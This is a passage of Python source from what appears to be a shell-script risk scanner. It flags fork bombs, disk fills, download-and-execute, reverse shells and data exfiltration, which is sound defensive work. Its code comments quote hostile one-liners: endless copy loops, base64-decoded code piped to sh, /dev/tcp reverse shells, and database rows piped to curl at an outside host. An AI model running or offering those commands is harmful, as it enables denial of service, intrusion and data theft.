            # (an enclosing loop counts too: `for n in $(seq 1 100000); do for c in …; do curl … & done; done`)
            if background and loop is not None and any(outer.endless or outer.huge for outer in self._loops):
                self._add(
                    "shell.spawn-loop",
                    RiskLevel.HIGH,
                    Category.RESOURCE,
                    "a loop starts endless or very many background jobs (process exhaustion)",
                    node.parent,
                )
        return flow

    def _tested_absent(self, children: list[Any], i: int) -> str | None:
        """The file ``[ -f FILE ] || …`` tests for, when ``children[i]`` runs only if it does not exist."""
        if i < 2 or children[i - 1].type != "||" or children[i - 2].type != "test_command":
            return None
        found = _EXISTS_TEST.match(_SIMPLE_VARIABLE.sub(self._known_value, self._text(children[i - 2])))
        return paths.classify(found[1].strip("\"'")).path if found else None

    def _while(self, node: Any) -> _Flow:
        body = node.child_by_field_name("body")
        flow = _Flow()
        for cond in node.children_by_field_name("condition"):
            flow.absorb(self._stmt(cond))
        if body is None:
            return flow
        endless, paced = self._loop_is_infinite(node), self._paced(node)
        conditions = " ".join(self._text(c) for c in node.children_by_field_name("condition"))
        if not paced and _WRITES_A_FILE.search(conditions):
            self._add(
                "shell.disk-fill",
                RiskLevel.HIGH,
                Category.RESOURCE,
                "writes files until writing fails (fills the disk)",
                node,
            )
        if endless and not paced and _COPIES_ANEW.search(self._text(body)):
            # `while :; do cp -r . "/tmp/x-$RANDOM"; done`: a new copy every round, none removed
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "copies files to a new place in every round of an endless loop that never pauses (fills the "
                      "disk)", node)  # fmt: skip
        body_text = self._text(body)
        if endless and not paced and _EMPTY_FILE_ANEW.search(body_text) and _NAME_CHANGES.search(body_text):
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "creates a new empty file in every round of an endless loop (the file system runs out of "
                      "inodes)", node)  # fmt: skip
        if endless and not paced and self._loop_output_file(node) and _PRINTS.search(self._text(body)):
            # `while :; do printf …; done > /var/tmp/x`: what every round prints is appended to one file for ever
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "prints into a file in an endless loop that never pauses (fills the disk)", node)  # fmt: skip
        if endless and not paced and _BACKGROUNDED.search(self._text(body)):
            # `while :; do lp -n 999 … & done`: a new process every round, none waited for
            self._add("shell.fork-storm", RiskLevel.HIGH, Category.RESOURCE,
                      "starts background processes in every round of an endless loop that never pauses (they pile up "
                      "until the machine stalls)", node)  # fmt: skip
        if _FINDS_ARCHIVES.search(conditions) and _UNPACKS.search(self._text(body)):
            # `while find . -name '*.zip' | grep -q .; do unzip …; done`: an archive that holds itself never ends
            self._add("shell.disk-fill", RiskLevel.HIGH, Category.RESOURCE,
                      "unpacks archives found inside archives until none is left (no depth or size limit: a "
                      "nested zip bomb fills the disk)", node)  # fmt: skip
        # `find DIR | while read f; do rm "$f"; done` is xargs: $f is every file under DIR
        listing, bound = self._stdin_listing, self._read_variables(node)
        if bound and node.parent is not None and node.parent.type == "redirected_statement":
            fed = self._loop_input(node.parent)
            if fed is not None:
                for name in bound:
                    self.var_flow[name] = fed  # `while read k v; do …; done < <(env)`: each line of the environment
        # `… | while read x` and `while read x; … done < FILE`: each line of another command's output or a file
        piped = bound and (node.parent is not None and node.parent.type in ("pipeline", "redirected_statement"))
        read_before, self._read_vars = self._read_vars, self._read_vars | (set(bound) if piped else set())
        if piped and self._stdin_remote:
            for name in bound:  # `curl … | while read cmd`, `nats sub … | while read cmd`: lines off the network
                received = _Flow()
                received.download = True
                self.var_flow[name] = received
        saved = {name: self.vars.get(name) for name in bound}
        if listing and bound:
            for name in bound:
                self.vars[name] = listing.rstrip("/") + "/" + HOLE
        elif piped and bound and (self._stdin_text or "").startswith("/dev/"):
            self.vars[bound[0]] = self._stdin_text or ""  # `lsblk -dpno NAME | while read d`: each disk
        # `ps ... | while read p; do kill "$p"; done` visits the listed processes
        self._loops.append(_Loop(endless, False, paced, self._stdin_pids if bound else None))
        mass, self._mass = self._mass, self._mass or bool(listing and bound)
        rotated_before = self._rotated_items
        if piped and bound and node.parent.type == "pipeline":
            feed = self._text(node.parent)[: node.start_byte - node.parent.start_byte]
            self._rotated_items = self._rotated_items or _PAST_THE_NEWEST.search(feed) is not None
        # `while IFS=, read -r dir days; do …; done < retention.csv`: a file this script wrote, line by line
        rows = self._known_rows(node, conditions) if bound else []
        try:
            for row in rows[:4]:
                for name, field in zip(bound, row + [""] * len(bound), strict=False):
                    self.vars[name] = field
                flow.absorb(self._sequence(body))
            if len(rows) > 4:
                self.vars.update(dict.fromkeys(bound, HOLE))  # and the rest of the file, unknown
            if len(rows) > 4 or not rows:
                flow.absorb(self._sequence(body))
        finally:
            self._loops.pop()
            self._mass = mass
            self._rotated_items = rotated_before
            self._read_vars = read_before
            for name, value in saved.items():
                if value is None:
                    self.vars.pop(name, None)
                else:
                    self.vars[name] = value
        nxt = node.next_sibling
        backgrounded = (nxt is not None and nxt.type == "&") or self._background or self.inherited_background
        if endless and not paced and backgrounded and node.type == "while_statement":
            # `while :; do :; done &`: a busy loop left running in the background burns a CPU forever
            self._add(
                "shell.cpu-burn",
                RiskLevel.HIGH,
                Category.RESOURCE,
                "an endless loop without pause runs in the background (burns a CPU until killed)",
                node,
            )
        return flow

    def _known_rows(self, loop: Any, conditions: str) -> list[list[str]]:
        """The lines of a file this script wrote, split into fields, when a ``while read`` loop reads them (by a
        redirect, or from ``cat``/``tail``/``head`` of the file in a pipeline)."""
        source = ""
        parent = loop.parent
        if parent is not None and parent.type == "redirected_statement":
            for child in parent.named_children:
                reads = child.type == "file_redirect" and any(c.type == "<" for c in child.children)
                if reads and child.named_children:
                    source = self._word(child.named_children[-1], _Flow())
        elif parent is not None and parent.type == "pipeline":
            stages = [c for c in parent.named_children if c.end_byte <= loop.start_byte]
            words = self._text(stages[-1]).split() if stages else []
            if words and words[0] in ("cat", "tail", "head", "sort", "grep"):
                source = words[-1].strip("'\"")
        text = self._written_texts.get(source)
        if text is None:
            return []
        separator = re.search(r"\bIFS=(?:'([^']*)'|\"([^\"]*)\"|(\S))", conditions)
        ifs = next((g for g in separator.groups() if g), None) if separator else None
        lines = [line for line in text.splitlines() if line.strip() and not line.startswith("#")]
        return [line.split(ifs) if ifs else line.split() for line in lines]

    def _system_cwd(self) -> bool:
        """The last ``cd`` went to where the system's services keep their data (``/var/lib/mysql``, ``/etc``,
        ``/srv/<site>``)."""
        if not self._cwd or HOLE in self._cwd or not self._cwd.startswith("/"):
            return False
        # (data a service keeps, not installed software: `cd /opt/app && rm -rf build` stays a project's clean-up)
        # (`/mnt/<share>` is a data volume; `/mnt/c/…` is a Windows drive under WSL, where projects live too)
        wsl_drive = re.match(r"/mnt/[a-z](?:/|$)", self._cwd) is not None
        # (and a container's own data or config volume: `/config/esphome`, Home Assistant's add-ons, `/data/…`)
        data = ("/var/lib/", "/etc", "/var/spool/", "/var/mail", "/mnt/", "/srv/", "/config/", "/data/")
        return self._cwd.startswith(data) and not wsl_drive

    def _loop_output_file(self, loop: Any) -> bool:
        """The loop's output is redirected into a file (``done > FILE``, ``done >> FILE``), not /dev/null."""
        statement = loop.parent
        if statement is None or statement.type != "redirected_statement":
            return False
        for child in statement.named_children:
            if child.type == "file_redirect" and any(c.type in (">", ">>", "&>", "&>>") for c in child.children):
                target = child.named_children[-1] if child.named_children else None
                if target is not None and not self._text(target).startswith(("/dev/", "&")):
                    return True
        return False

    def _loop_input(self, statement: Any) -> _Flow | None:
        """What a ``while read`` loop reads when its input is the environment (``done < <(env)``) or a secret
        file (``done < ~/.netrc``)."""
        for child in statement.named_children:
            if child.type != "file_redirect" or not any(c.type == "<" for c in child.children):
                continue
            target = child.named_children[-1] if child.named_children else None
            if target is None:
                continue
            text = self._text(target)
            if target.type == "process_substitution" and _ENV_LISTING.match(text):
                fed = _Flow()
                fed.env = True
                return fed
            if target.type != "process_substitution" and paths.classify(self._word(target, _Flow())).secret:
                fed = _Flow()
                fed.secret = True
                return fed
        return None

    def _read_variables(self, loop: Any) -> list[str]:
        """The variables a ``while read VAR...`` loop's condition reads into."""
        names: list[str] = []
        for cond in loop.children_by_field_name("condition"):
            stack = [cond]
            while stack:
                node = stack.pop()
                if node.type == "command":
                    words = [self._text(c) for c in node.named_children if c.type != "command_name"]
                    name = node.child_by_field_name("name")
                    if name is not None and self._text(name) == "read":
                        skip = False
                        for word in words:
                            if skip:
                                skip = False
                            elif word in ("-d", "-n", "-N", "-p", "-t", "-u", "-a"):
                                skip = True
                            elif not word.startswith("-") and word.isidentifier():
                                names.append(word)
                stack.extend(node.named_children)
        return names

    def _paced(self, loop: Any) -> bool:
        """Whether a loop waits for something each round (sleep, read, wait) or can stop (break)."""
        stack = [loop]
        while stack:
            node = stack.pop()
            if node.type == "command":
                name = node.child_by_field_name("name")
                if name is not None and W.base(self._text(name)) in T.PACING_COMMANDS:
                    return True
                parent = node.parent
                if name is not None and self._text(name) in ("break", "return") and not (
                    parent is not None and parent.type == "list" and "||" in self._text(parent)
                ):
                    # (`[ -z "$batch" ] && break` ends a pagination loop; `dd … || break` runs until the disk is full)
                    return True
            if node.type in ("break", "return") or (node.type == "command" and self._text(node).startswith("exit")):
                return True
            stack.extend(node.children)
        return False

    def _loop_is_infinite(self, loop: Any) -> bool:
        if loop is None or loop.type != "while_statement":
            return False
        cond = loop.child_by_field_name("condition")
        text = self._text(cond).strip().rstrip(";").strip() if cond is not None else ""
        # (`while sleep 5; do …`: sleep succeeds every time, so the loop never ends; it is paced)
        return text in ("true", ":", "[ 1 ]", "((1))", "[[ 1 ]]", "/bin/true") or re.fullmatch(
            r"sleep\s+\d+(?:\.\d+)?[smh]?", text
        ) is not None

    def _for(self, node: Any) -> _Flow:
        """``for VAR in WORDS``: the body is analysed once per word (up to 4), VAR bound to it."""
        var_node = node.child_by_field_name("variable")
        body = node.child_by_field_name("body")
        flow = _Flow()
        words: list[str] = []
        for child in node.children_by_field_name("value"):
            words.extend(self._split_word(child, flow))
        if not node.children_by_field_name("value") and "@" in self.vars:
            words = self.vars["@"].split()  # `for t; do`: the positional parameters
        if var_node is None or body is None:
            return self._sequence(node)
        name = self._text(var_node)
        choices = words[:4] if words and len(words) <= 4 else [HOLE]
        if len(words) > 4:
            # too many to try each: the unknown, plus the words that point somewhere that matters
            notable = [w for w in words if _notable_path(w) or w in T.ADMIN_PORTS or w in T.LOG_SHIPPING_PORTS]
            choices = [HOLE, *notable[:3]]
        saved = self.vars.get(name)
        spelled = " ".join(self._text(c) for c in node.children_by_field_name("value"))
        if "$" in spelled:  # `$(seq 1 "$N")` with N=50000 set earlier: the number it holds
            spelled = _NUMERIC_REFERENCE.sub(
                lambda m: self.vars[m[1]] if self.vars.get(m[1], "").isdigit() else m[0], spelled
            )
        huge = len(words) >= T.HUGE_LOOP or T.counts_to_many(spelled)
        count = T.loop_count(spelled) or (len(words) if words and HOLE not in "".join(words) else None)
        # `for chunk in $(echo "$tok" | fold -w 40)`: the loop variable carries what the words carried
        # (`for c in $(docker ps -q)`: each container of the engine's listing, every one of them in turn)
        if flow.secret or flow.env or flow.remote or flow.credential or flow.every_container:
            self.var_flow[name] = flow
        pids = flow.pids_of
        if any(w.startswith("/proc/") and ("*" in w or "[" in w) for w in words):
            pids = ""  # every process directory
        self._loops.append(_Loop(False, huge, self._paced(body), pids, count))
        try:
            for word in choices:
                self.vars[name] = word
                flow.absorb(self._sequence(body))
        finally:
            self._loops.pop()
        if saved is None:
            self.vars.pop(name, None)
        else:
            self.vars[name] = saved
        return flow

    def _function(self, node: Any) -> _Flow:
        name_node = node.child_by_field_name("name")
        name = self._text(name_node) if name_node is not None else ""
        body = node.child_by_field_name("body")
        if body is not None and name:
            calls, spawns = self._self_calls(body, name)
            # `spawn() { worker & spawn; }`: it calls itself whatever happens, leaving a process behind each time
            text = self._text(body)
            unconditional = calls >= 1 and not re.search(r"\b(?:if|case|while|until)\b|&&|\|\||\breturn\b", text)
            spawns = spawns or (unconditional and re.search(r"&(?!&)\s*(?:;|\n|\w)", text) is not None)
            if calls >= 2 or spawns:
                self._add(
                    "shell.fork-bomb",
                    RiskLevel.CRITICAL,
                    Category.RESOURCE,
                    f"function {name!r} calls itself recursively in the background or in a pipeline (fork bomb)",
                    node,
                )
        if body is not None and name:
            self._functions[name] = body
        return self._sequence(body) if body is not None else _Flow()

    def _call_function(self, name: str, args: list[str], flow: _Flow) -> None:
        """``f ARGS`` for a function defined in the script: re-analyse its body with $1.. bound to ARGS."""
        body = self._functions[name]
        self._call_budget -= 1
        positional = {str(i): a for i, a in enumerate(args[:9], start=1)}
        positional["@"] = positional["*"] = " ".join(args)
        saved = {k: self.vars.get(k) for k in positional}
        saved_flow = {k: self.var_flow.get(k) for k in positional}
        self.vars.update(positional)
        for key in positional:
            self.var_flow.pop(key, None)
        self._calling.add(name)
        try:
            flow.absorb(self._sequence(body))
        finally:
            self._calling.discard(name)
            for key, old in saved.items():
                if old is None:
                    self.vars.pop(key, None)
                else:
                    self.vars[key] = old
            for key, old_flow in saved_flow.items():
                if old_flow is not None:
                    self.var_flow[key] = old_flow

    def _self_calls(self, body: Any, name: str) -> tuple[int, bool]:
        calls = 0
        spawns = False
        stack = [body]
        while stack:
            node = stack.pop()
            if node.type == "command":
                cmd = node.child_by_field_name("name")
                # `"$FUNCNAME"` is the function's own name, as written
                if cmd is not None and self._text(cmd).strip('"') in (name, *_OWN_NAME):
                    calls += 1
                    parent = node.parent
                    nxt = node.next_sibling
                    if (parent is not None and parent.type == "pipeline") or (nxt is not None and nxt.type == "&"):
                        spawns = True
            stack.extend(node.named_children)
        return calls, spawns

    def _pipeline(self, node: Any, fed: _Flow | None = None) -> _Flow:
        """``fed``: what the stage before this pipeline prints into it (`cat <<EOF | tee FILE` parses as the
        here-document's command followed by a pipeline of the rest)."""
        stages = [c for c in node.named_children]
        upstream = fed or _Flow()
        flow = _Flow()
        text: str | None = fed.text if fed is not None else None
        listing: str | None = None
        pids: str | None = None
        logs = False  # a stage before printed logs (`journalctl`, `cat /var/log/…`)
        for index, stage in enumerate(stages):
            self._stdin_logs = logs
            self._stdin_listing = listing
            self._stdin_pids = pids
            self._stdin_secret = upstream.secret or upstream.env
            self._stdin_remote = upstream.remote
            self._stdin_containers = upstream.every_container
            self._stdin_text = text
            self._stdin_endless = upstream.endless
            # `seq 1 100000 | xargs -P 64 curl …`: the command runs once per number, a loop of that many rounds
            before = stages[index - 1] if index > 0 else None
            counted = before is not None and self._stage_name(stage) in ("xargs", "parallel") and (
                self._stage_name(before) == "seq" and (T.loop_count(self._text(before)) or 0) >= 1000
            )  # fmt: skip
            if counted:
                self._loops.append(_Loop(False, True, False, None, T.loop_count(self._text(before or stage))))
            try:
                sub = self._stmt(stage)
            finally:
                if counted:
                    self._loops.pop()
                self._stdin_logs = False
                self._stdin_listing = None
                self._stdin_pids = None
                self._stdin_secret = False
                self._stdin_remote = False
                self._stdin_containers = False
                self._stdin_text = None
                self._stdin_endless = False
                self._xargs_remote = False
                self._mass = False
            # (`find / -name '*.db' | grep -v usr | xargs rm`: a filter passes on some of the listed files)
            filtered = sub.listing is None and self._stage_name(stage) in _LINE_FILTERS
            listing = listing if filtered else sub.listing
            # what the stage prints: `ps | grep x | ...` is narrowed to x, `ps | awk '$1 != me' | ...` is not
            pids = sub.pids_of if sub.pids_of is not None else self._narrowed_pids(stage, pids)
            if index > 0 or fed is not None:
                after = stages[index + 1] if index + 1 < len(stages) else None
                self._pipe_into(stage, sub, upstream, text, self._text(after) if after is not None else "")
            # `echo X | base64 -d | sh`: follow the constant text through decoders to the shell
            previous = text
            text = (
                W.apply_transform(sub.transform, text) if sub.transform is not None and text is not None else sub.text
            )
            if text is None and (previous or "").startswith("/dev/") and self._stage_name(stage) in T.PID_FILTERS:
                text = previous  # `lsblk -dpno NAME | awk 'NR==1'`: still one of the disks
            if sub.transform is not None and upstream.payload:
                sub.decode = True
            upstream.absorb(sub)
            logs = logs or self._stage_name(stage) in ("journalctl", "dmesg") or "/var/log/" in self._text(stage)
            upstream.endless = sub.endless  # what the next stage reads is this stage's output
            if sub.interp is not None:
                upstream.interp = sub.interp
            flow.absorb(sub)
            flow.interp = sub.interp
            flow.endless = sub.endless
            flow.pids_of = pids
        flow.text = text
        return flow

    def _stage_name(self, stage: Any) -> str:
        """The program a pipeline stage runs (``curl`` for ``curl -s -X POST ...``), or ""."""
        text = self._text(stage)
        head = text.split(None, 1)[0] if text.strip() else ""
        if head and head != "sudo" and not any(c in head for c in "'\"\\$=`({"):
            return W.base(head)  # the common case: a plain word first, no need to split the whole stage
        try:
            words = shlex.split(text)
        except ValueError:
            return ""
        if words[:1] == ["sudo"]:
            words = W.skip_options(words[1:], frozenset({"-u", "-g"}))
        return W.base(words[0]) if words else ""

    def _narrowed_pids(self, stage: Any, pids: str | None) -> str | None:
        """The processes a filter stage passes on from a process listing (None: not a listing)."""
        if pids is None:
            return None
        try:
            words = shlex.split(self._text(stage))
        except ValueError:
            return pids
        if not words or W.base(words[0]) not in T.PID_FILTERS:
            return None
        name, args = W.base(words[0]), words[1:]
        if name in ("grep", "egrep", "fgrep"):
            flags, operands = W.options(args)
            return pids if "v" in flags or not operands else operands[0]
        if name in ("awk", "gawk", "mawk"):
            program, i = "", 0
            while i < len(args):
                if args[i] in ("-v", "-F", "-f"):
                    i += 2
                    continue
                if not args[i].startswith("-"):
                    program = args[i]
                    break
                i += 1
            regex = re.search(r"/((?:\\.|[^/])+)/", program)
            return regex.group(1) if regex else pids
        return pids

    def _pipe_into(self, stage: Any, sub: _Flow, upstream: _Flow, text: str | None, after: str = "") -> None:
        """What ``stage`` does with what the stages before it print (``upstream``, ``text`` when constant);
        ``after`` is the command line of the stage that reads what it prints."""
        if sub.interp is not None:
            if upstream.download:
                self._add(
                    "shell.download-exec",
                    RiskLevel.CRITICAL,
                    Category.DYNAMIC_CODE,
                    "data downloaded from the network is piped into an interpreter",
                    stage,
                )
            elif upstream.decode and text is None:
                self._add(
                    "shell.decoded-exec",
                    RiskLevel.CRITICAL,
                    Category.DYNAMIC_CODE,
                    "a decoded (obfuscated) payload is piped into an interpreter",
                    stage,
                )
            elif upstream.network:
                self._add(
                    "shell.reverse-shell",
                    RiskLevel.CRITICAL,
                    Category.NETWORK,
                    "network input is piped into an interpreter (remote shell)",
                    stage,
                )
            elif text is not None and sub.interp in ("shell", "python"):
                if upstream.decode:
                    self._add(
                        "shell.decoded-exec",
                        RiskLevel.HIGH,
                        Category.DYNAMIC_CODE,
                        "an obfuscated payload is decoded and piped into an interpreter",
                        stage,
                    )
                self._nested(text, sub.interp, stage, "code piped to an interpreter")
            elif text is not None and upstream.decode:
                # `echo "$B64" | base64 -d | node`: hidden code for a language without a parser here
                self._add("shell.decoded-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                          "an obfuscated payload is decoded and piped into an interpreter", stage)  # fmt: skip
                self._other_interpreter(sub.interp, text, stage, "stdin")
            else:
                self._add(
                    "shell.pipe-to-interpreter",
                    RiskLevel.MEDIUM,
                    Category.DYNAMIC_CODE,
                    "data of unknown origin is piped into an interpreter",
                    stage,
                )
        if sub.buffers and upstream.endless:
            self._add(
                "shell.memory-hog",
                RiskLevel.HIGH,
                Category.RESOURCE,
                "endless output is buffered in memory by the next command",
                stage,
            )
        # (`bw get password gh | gh auth login --with-token`: a login that reads its token on stdin uses it)
        stage_text = self._text(stage)
        # (`… | curl "$BASE/auth/simple/login" -d @- | jq -r .token`: a password handed to a login endpoint for the
        # session token read from its answer)
        login = _LOGIN_ENDPOINT.search(stage_text) is not None and _TOKEN_READ.search(after) is not None
        if sub.network and (upstream.secret or upstream.env) and not (
            _STDIN_LOGIN.search(stage_text) or _STORES_SECRET.search(stage_text) or login
        ):
            self._add(
                "shell.exfiltration",
                RiskLevel.CRITICAL,
                Category.EXFILTRATION,
                "secret data is piped to a network command",
                stage,
            )
        if (
            upstream.download
            and self._stage_name(stage) in T.SQL_CLIENTS
            and not any(o in self._text(stage).split()[1:] for o in T.SQL_SCRIPT_OPTIONS)
        ):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      "SQL downloaded from the network is piped into a database shell", stage)  # fmt: skip
        if upstream.download and self._stage_name(stage) == "redis-cli" and "--pipe" in self._text(stage).split():
            # (the mass-insertion protocol carries any command: FLUSHALL, CONFIG SET, keys the application trusts)
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      "Redis commands downloaded from the network are piped into the server (redis-cli --pipe)",
                      stage)  # fmt: skip
        if upstream.download and self._stage_name(stage) == "zowe" and _JOB_FROM_STDIN.search(self._text(stage)):
            self._add("shell.download-exec", RiskLevel.HIGH, Category.DYNAMIC_CODE,
                      "JCL downloaded from the network is submitted as a mainframe job", stage)  # fmt: skip
        sender = self._stage_name(stage)
        if sub.network and sender in RAW_SENDERS and sender not in T.DOWNLOADERS and public_drop(self._text(stage)):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"output is piped to {sender} at a paste site or file drop (anyone with the link reads it)",
                      stage)  # fmt: skip
        streamed = sub.network and sender in RAW_SENDERS and stage.parent is not None
        before_stage = self._text(stage.parent).split(self._text(stage))[0] if streamed else ""
        if "/dev/" in before_stage and _DEVICE_STREAM.search(before_stage):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"streams what a keyboard, card reader or serial device reads to {sender} (another host)",
                      stage)  # fmt: skip
        dump = upstream.dump and not (upstream.secret or upstream.env)
        if sub.network and dump and self._stage_name(stage) not in RAW_SENDERS and personal_host(self._text(stage)):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      "a whole database dump is sent to someone's own machine (a dynamic-DNS host)", stage)  # fmt: skip
        hosts = re.findall(r"@(\d{1,3}(?:\.\d{1,3}){3})\b", self._text(stage)) if sender == "ssh" else []
        if sub.network and dump and any(not private_address(h) for h in hosts):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      f"a whole database or dataset dump is sent over ssh to a bare address ({hosts[0]})",
                      stage)  # fmt: skip
        queried = stage.parent is not None and _DATABASE_QUERY.match(self._text(stage.parent)) is not None
        if sub.network and (dump or queried) and sender in MAILERS and personal_mailbox(self._text(stage)):
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      ("a database dump is" if dump else "a database query's rows are")
                      + " mailed to a personal mailbox",
                      stage)  # fmt: skip
        elif sub.network and dump and sender in MAILERS and "@" in self._text(stage):
            # (mail is no channel for a database: unencrypted, kept in every mailbox it passes through)
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      "a database dump is mailed away", stage)  # fmt: skip
        if (
            sub.network
            and queried
            and sender in RAW_SENDERS
            and personal_data_query(self._text(stage.parent))
            and outside_url(self._text(stage))
        ):
            # (`psql -c "\copy (SELECT name, tin, address …) TO STDOUT" | curl -F data=@- https://forms.example.net`)
            self._add("shell.exfiltration", RiskLevel.HIGH, Category.EXFILTRATION,
                      "people's records a query selects are piped to another host on the internet", stage)  # fmt: skip
        uploads = sender in T.OTHER_INTERPRETERS and uploads_stdin(self._text(stage))
        # `mysqldump … | rclone rcat personal-drive:…`: the dump streamed into someone's own cloud drive
        uploads = uploads or (sender == "rclone" and _PERSONAL_RCAT.search(self._text(stage)) is not None)
        if sub.network and dump and (sender in RAW_SENDERS or uploads):
            self._add(
                "shell.exfiltration",
                RiskLevel.HIGH,
                Category.EXFILTRATION,
                "a whole database or dataset dump is piped to a network upload",
                stage,
            )
        if sub.network and upstream.interp is not None and not sub.download:
            self._add(
                "shell.reverse-shell",
                RiskLevel.CRITICAL,
                Category.NETWORK,
                "an interpreter's output is piped to the network (remote shell)",
                stage,
            )

    def _redirected(self, node: Any) -> _Flow:
        body = node.child_by_field_name("body")
        redirects = [c for c in node.named_children if c is not body]
        extra: list[Any] = []
        for redirect in redirects:
            if redirect.type == "file_redirect":
                words = [c for c in redirect.named_children if c.type not in ("file_descriptor", "ERROR")]
                extra.extend(words[1:])  # bash: words after the target are command arguments
        if body is not None and body.type == "command":
            # `sh < <(curl …)`, `php -r '…php://stdin…' < <(curl …)`: standard input is a download
            fed = any(
                r.type == "file_redirect" and any(c.type == "<" for c in r.children)
                and any(c.type == "process_substitution" and _DOWNLOADER_WORD.search(self._text(c))
                        for c in r.named_children)
                for r in redirects
            )  # fmt: skip
            remote_before, self._stdin_remote = self._stdin_remote, self._stdin_remote or fed
            try:
                flow = self._command(body, redirects, extra)
            finally:
                self._stdin_remote = remote_before
            words = self._plain_words(body) if fed else []
            # (or any command that reads code from its standard input, as a pipe into it would: `docker exec -i app
            # python manage.py shell < <(curl …)`)
            reads_code = fed and flow.interp is not None
            if reads_code or (
                words and W.base(words[0]) in T.SHELLS | T.PYTHONS and not [w for w in words[1:] if w != "-"]
            ):
                self._add("shell.download-exec", RiskLevel.CRITICAL, Category.DYNAMIC_CODE,
                          f"{W.base(words[0])} runs a script downloaded from the network (its standard input)",
                          node)  # fmt: skip
        else:
            flow = self._stmt(body) if body is not None else _Flow()
            # `a && python - <<EOF`: the redirections belong to the list's last command
            last = _last_command(body) if body is not None else None
            missing = (
                self._tested_absent(body.children, len(body.children) - 1)
                if body is not None and body.type == "list"
                else None
            )
            if missing:
                self._absent.add(missing)
            try:
                self._redirects(redirects, flow, self._plain_words(last) if last is not None else None, node)
            finally:
                self._absent.discard(missing or "")
        return flow

    def _plain_words(self, command: Any) -> list[str]:
        """The words of a simple command, for a redirection attached above it (no rules run again)."""
        words: list[str] = []
        for child in command.named_children:
            if child.type == "command_name":
                words.extend(self._split_word(child.named_children[0] if child.named_children else child, _Flow()))
            elif child.type not in ("variable_assignment", "file_redirect", "heredoc_redirect", "herestring_redirect"):
                words.extend(self._split_word(child, _Flow()))
        return words

    def _redirects(self, redirects: Iterable[Any], flow: _Flow, argv: list[str] | None, stmt: Any) -> None:
        interactive_shell = (bool(argv) and flow.interp == "shell") or bool(argv and W.base(argv[0]) in T.SHELLS)
        redirects = list(redirects)
        content: str | None = flow.text  # what the command writes, when it is constant (echo, printf)
        if argv and W.base(argv[0]) == "cat" and len(argv) == 1:
            for redirect in redirects:
                for child in redirect.named_children if redirect.type == "heredoc_redirect" else ():
                    if child.type == "heredoc_body":
                        content = self._text(child)  # cat > FILE <<EOF ... EOF
        for redirect in redirects:
            if redirect.type == "heredoc_redirect":
                self._heredoc(redirect, flow, argv, stmt)
                continue
            if redirect.type == "herestring_redirect":
                arg = redirect.named_children[-1] if redirect.named_children else None
                if arg is not None:
                    word_flow = _Flow()
                    text = self._word(arg, word_flow)
                    if argv:
                        self._stdin_code(text, word_flow, argv, stmt)
                        if (word_flow.secret or word_flow.env) and W.base(argv[0]) in T.NETWORK:
                            self._add(
                                "shell.exfiltration",
                                RiskLevel.CRITICAL,
                                Category.EXFILTRATION,
                                f"{W.base(argv[0])} sends secret data (a here-string) over the network",
                                stmt,
                            )
                continue
            if redirect.type != "file_redirect":
                continue
            op = ""
            target: Any = None
            descriptor = ""
            for child in redirect.children:
                if not child.is_named:
                    op = child.type
                elif child.type == "file_descriptor":
                    descriptor = self._text(child)
                elif child.type != "ERROR" and target is None:
                    target = child
            if target is not None and target.type == "number" and self._text(target) in self._socket_fds:
                # `bash <&3 >&3`, `$line >&5`: a descriptor an earlier `exec 3<>/dev/tcp/...` connected
                flow.network = True
                runs_code = argv and (
                    argv[0] in (HOLE, "eval", "source", ".") or W.base(argv[0]) in T.SHELLS | T.PYTHONS
                )
                if interactive_shell or runs_code:
                    self._add("shell.reverse-shell", RiskLevel.CRITICAL, Category.NETWORK,
                              "a shell or commands run on a socket's descriptor (reverse shell)", stmt)  # fmt: skip
                elif op.startswith(">") and (flow.secret or flow.env or self._stdin_secret):
                    self._add("shell.exfiltration", RiskLevel.CRITICAL, Category.EXFILTRATION,
                              "secret data is written to a socket's descriptor", stmt)  # fmt: skip
                continue
            if target is None or target.type == "number":
                continue
            dest = self._word(target, _Flow())
            if "/dev/tcp/" in dest or "/dev/udp/" in dest:
                flow.network = True
                if descriptor and (not argv or argv == ["exec"]):
                    self._socket_fds.add(descriptor)  # `exec 3<>/dev/tcp/h/p`: the socket stays open as fd 3
                if interactive_shell:
                    self._add(
                        "shell.reverse-shell",
                        RiskLevel.CRITICAL,
                        Category.NETWORK,
                        "a shell is connected to a raw TCP/UDP socket (reverse shell)",
                        stmt,
                    )
                elif flow.secret or flow.env:
                    self._add(
                        "shell.exfiltration",
                        RiskLevel.CRITICAL,
                        Category.EXFILTRATION,
                        "secret data is sent to a raw network socket",
                        stmt,
                    )
                else:
                    host = dest.split("/dev/", 1)[1].split("/")[1] if dest.count("/") >= 4 else ""
                    local = host in ("127.0.0.1", "localhost", "::1") or host.startswith("127.")
                    # `(exec 3<>/dev/tcp/$h/$p)`, `: </dev/tcp/h/p`: opened and closed, nothing sent (a port probe)
                    probe = not argv or (W.base(argv[0]) in (":", "true", "exec", "echo") and len(argv) <= 1)
                    probe = probe and not any(loop.huge for loop in self._loops)  # one port, not a scan
                    self._add(
                        "shell.raw-socket",
                        RiskLevel.LOW
                        if local and (op in ("<",) or probe)
                        else RiskLevel.MEDIUM
                        if probe
                        else RiskLevel.HIGH,
                        Category.NETWORK,
                        "opens a raw network connection through /dev/tcp" + (" (a local port check)" if local else ""),
                        stmt,
                    )
                continue
            info = paths.classify(dest)
            if (
                flow.endless
                and op not in ("<", "<<<")
                and info.kind not in (paths.PathKind.NULL, paths.PathKind.DEVICE)
            ):
                self._add(
                    "shell.disk-fill",
                    RiskLevel.HIGH,
                    Category.RESOURCE,
                    f"writes endless output to {paths.describe(info)} (fills the disk)",
                    stmt,
                )
